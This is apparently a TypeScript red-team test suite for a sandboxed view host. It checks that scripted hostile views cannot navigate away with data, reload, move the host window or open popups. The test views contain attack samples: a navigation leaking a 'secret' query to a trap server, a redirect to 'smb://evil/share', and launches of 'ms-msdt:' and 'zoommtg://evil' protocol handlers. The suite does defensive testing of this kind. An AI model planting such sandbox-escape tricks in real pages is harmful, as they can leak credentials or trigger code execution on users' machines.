import { setTimeout as sleep } from "node:timers/promises";
import type { TargetAddresses } from "../lab/target-addresses.ts";
import { clickView } from "../stage/page-steps.ts";
import { scriptedView } from "../stage/view-document.ts";
import { type Check, hasSaid, spoken, unless, unlessTried } from "./check.ts";

const SETTLE = 600;

/** The view leaves, comes back twice, or moves windows that are not its own. */
export const NAVIGATION_CHECKS: readonly Check[] = [
  {
    id: "navigation-kill",
    title: "a view that navigates away is stopped within a second, and the host gets the reason",
    entries: [32, 88],
    stages: ["tier-1", "tier-2", "tier-3"],
    quick: true,
    timing: true,
    async run(scene) {
      const trap = await scene.trap();
      const html = scriptedView(({ base }: TargetAddresses) => {
        const leave = () => {
          say("leaving");
          setTimeout(() => location.assign(`${base}/c?secret=1`), 50);
        };
        addEventListener("message", leave, { once: true });
        say("ready");
      }, trap);
      const host = await scene.open([{ name: "view", server: trap.cell, html }]);
      await host.until((lines) => hasSaid(lines, "ready"));
      await host.page.evaluate(startClock);
      const post = (method: string) =>
        host.page.evaluate((name) => {
          window.redteam.ports.view?.postMessage({ msg: { jsonrpc: "2.0", method: name } });
        }, method);
      await post("leave");
      const log = await host.until((lines) => lines.some(({ killed }) => killed), 4000);
      const left = log.find(({ msg }) => msg?.params?.data === "leaving")?.at;
      const end = log.find(({ killed }) => killed);
      // Messages of the host must not reach any page now.
      await post("secret");
      const times = { from: left ?? 0, to: end?.at ?? 0 };
      const late = await host.page.evaluate(lostTime, times);
      const time = Math.round(times.to - times.from - late);
      await sleep(SETTLE);
      return [
        ...unlessTried(left, "the view did not try to leave"),
        ...unless(end?.killed?.code === "navigation", "the view was not stopped"),
        ...unless(
          !end || time < 1000,
          `it took ${time} ms, in addition to a machine delay of ${Math.round(late)} ms`,
        ),
        ...unless(
          !JSON.stringify(end ?? "").includes("secret"),
          "the reason repeats the data of the address",
        ),
        ...trap.caught().map((hit) => `attacker got ${hit}`),
      ];
    },
  },
  {
    id: "one-use-document",
    title: "reload, another query and another path of its own origin give no second document",
    entries: [36, 37],
    stages: ["tier-1", "tier-2", "tier-3"],
    quick: true,
    async run(scene) {
      const ways = ["reload", "query", "path"];
      const views = ways.map((way) => ({
        name: way,
        server: `one-use-${way}-${scene.stage.name}`,
        html: scriptedView((how: string) => {
          say("started");
          setTimeout(() => {
            if (how === "reload") location.reload();
            else if (how === "query") location.search = "?again";
            else location.pathname = `${location.pathname}/again`;
          }, 150);
        }, way),
      }));
      const host = await scene.open(views);
      await host.until((lines) => ways.every((way) => hasSaid(lines, "started", way)));
      await sleep(SETTLE * 2);
      const log = await host.log();
      return ways.flatMap((way) => {
        const starts = spoken(log, way).length;
        return unless(starts === 1, `${way}: the document started ${starts} times`);
      });
    },
  },
  {
    id: "declared-frame-stays-nested",
    title: "a declared frame domain cannot take the view's own place",
    entries: [39],
    stages: ["tier-1", "tier-2"],
    async run(scene) {
      const { declared, log } = await leaveForDeclared(scene);
      return [
        // A DNS query is harmless here, because this name was declared. A request isn't.
        ...declared
          .caught()
          .filter((hit) => !hit.startsWith("dns"))
          .map((hit) => `the declared page was loaded in its place: ${hit}`),
        ...unless(
          log.some(({ killed }) => killed?.code === "navigation"),
          "the view was not stopped",
        ),
      ];
    },
  },
  {
    id: "declared-frame-is-mute",
    title: "messages of a page that replaced the view are ignored",
    entries: [39, 46, 72],
    stages: ["tier-1", "tier-2"],
    async run(scene) {
      const { log } = await leaveForDeclared(scene);
      return unless(
        !JSON.stringify(log).includes("sent-by-an-outsider"),
        "its tools/call reached the host",
      );
    },
  },
  {
    id: "host-stays",
    title: "the host page is not moved: top, history, named targets, custom protocols",
    entries: [42, 43, 47, 48],
    stages: ["tier-1", "tier-2", "tier-3"],
    async run(scene) {
      const trap = await scene.trap();
      const html = scriptedView(({ base }: TargetAddresses) => {
        const attempts = [
          () => history.back(),
          () => history.go(-2),
          () => window.open(`${base}/named`, "host-window"),
          () => {
            (top as Window).location.href = "smb://evil/share";
          },
          () => window.open("ms-msdt:/id", "_top"),
          () => window.open("zoommtg://evil", "_blank"),
        ];
        const run = () => {
          for (const attempt of attempts) {
            try {
              attempt();
            } catch {
              // Refused at once is refused.
            }
          }
          say("tried");
        };
        setTimeout(run, 60);
        addEventListener("click", run);
      }, trap);
      const host = await scene.open([{ name: "view", server: trap.cell, html }]);
      const popups: unknown[] = [];
      host.page.on("popup", (popup) => popups.push(popup));
      await host.page.evaluate(() => {
        window.name = "host-window";
      });
      await host.until((lines) => hasSaid(lines, "tried"));
      await clickView(host.page, "view");
      await sleep(SETTLE);
      return [
        ...unless(host.page.url() === host.prepared.url, `the host is at ${host.page.url()}`),
        ...unlessTried((await host.said()).includes("tried"), "the view did not run"),
        ...unless(popups.length === 0, `${popups.length} windows were opened`),
        ...trap.caught().map((hit) => `attacker got ${hit}`),
      ];
    },
  },
  {
    id: "no-windows",
    title: "no window is opened, with or without a click",
    entries: [41],
    stages: ["tier-1", "tier-2", "tier-3"],
    async run(scene) {
      const html = scriptedView(() => {
        const run = () => {
          window.open("about:blank");
          const link = document.createElement("a");
          link.href = "about:blank";
          link.target = "_blank";
          document.body.append(link);
          link.click();
          say("tried");
        };
        setTimeout(run, 60);
        addEventListener("click", ({ isTrusted }) => isTrusted && run());
      });
      const host = await scene.open([{ name: "view", server: "windows", html }]);
      const popups: unknown[] = [];
      host.page.on("popup", (popup) => {
        popups.push(popup);
        void popup.close().catch(() => {});
      });
      const log = await host.until((lines) => hasSaid(lines, "tried"));
      await clickView(host.page, "view");
      await sleep(SETTLE);
      return [
        ...unlessTried(hasSaid(log, "tried"), "the view did not run"),
        ...unless(popups.length === 0, `${popups.length} windows were opened`),
      ];
    },
  },
  {
    id: "closing-is-final",
    title: "a view that traps its unloading is gone within a second of the host's close",
    entries: [51],
    // On one origin proxy and view share a process, so there the host removes its own frame.
    stages: ["tier-1", "tier-2"],
    timing: true,
    async run(scene) {
      const html = scriptedView(() => {
        for (const event of ["beforeunload", "pagehide", "unload"]) {
          addEventListener(event, (unloading) => {
            unloading.preventDefault();
            const until = performance.now() + 3000;
            while (performance.now() < until) say("still here");
          });
        }
        setInterval(() => say("tick"), 50);
      });
      const host = await scene.open([{ name: "view", server: "traps", html }]);
      await host.until((lines) => hasSaid(lines, "tick"));
      await host.page.evaluate(startClock);
      const from = await host.page.evaluate(() => {
        window.redteam.ports.view?.postMessage({ close: true });
        return performance.now();
      });
      const log = await host.until((lines) => lines.some(({ killed }) => killed), 3000);
      const end = log.find(({ killed }) => killed);
      const to = end?.at ?? Number.POSITIVE_INFINITY;
      const time = to - from - (end ? await host.page.evaluate(lostTime, { from, to }) : 0);
      await sleep(300);
      const before = (await host.log()).length;
      await sleep(SETTLE);
      const after = (await host.log()).length;
      return [
        ...unless(
          end?.killed?.code === "closed" && time < 1000,
          `the end was not confirmed within a second (${Math.round(time)} ms)`,
        ),
        ...unless(before === after, `${after - before} messages came after it`),
      ];
    },
  },
];

declare global {
  interface Window {
    /** When the host page's own clock ticked. */
    ticks?: number[];
  }
}

/** In the host page: starts a clock of its own, which is late when the machine has other work. */
function startClock(): void {
  const ticks: number[] = [];
  window.ticks = ticks;
  setInterval(() => ticks.push(performance.now()), 20);
}

/**
 * In the host page: how late its clock was in sum. All that passes between a view's leaving and the
 * host's notification waited for the same processors; at most half of the time is attributed to them.
 */
function lostTime({ from, to }: { from: number; to: number }): number {
  const ticks = [from, ...(window.ticks ?? []).filter((at) => from < at && at < to), to];
  const gaps = ticks.slice(1).map((at, index) => at - (ticks[index] ?? at));
  const late = gaps.reduce((sum, gap) => sum + Math.max(0, gap - 20), 0);
  return Math.min(late, (to - from) / 2);
}

/** A view declares a frame domain and then navigates there; that page sends JSON-RPC. */
async function leaveForDeclared(scene: Parameters<Check["run"]>[0]) {
  const declared = await scene.trap();
  const html = scriptedView(({ declarable }: TargetAddresses) => {
    say("leaving");
    setTimeout(() => location.assign(`${declarable}/speak`), 60);
  }, declared);
  const csp = { frameDomains: [declared.declarable] };
  const approved = [{ list: "frameDomains" as const, source: declared.declarable }];
  const host = await scene.open([{ name: "view", server: declared.cell, html, csp, approved }]);
  await host.until((lines) => hasSaid(lines, "leaving"));
  await sleep(SETTLE * 2);
  return { declared, log: await host.log() };
}
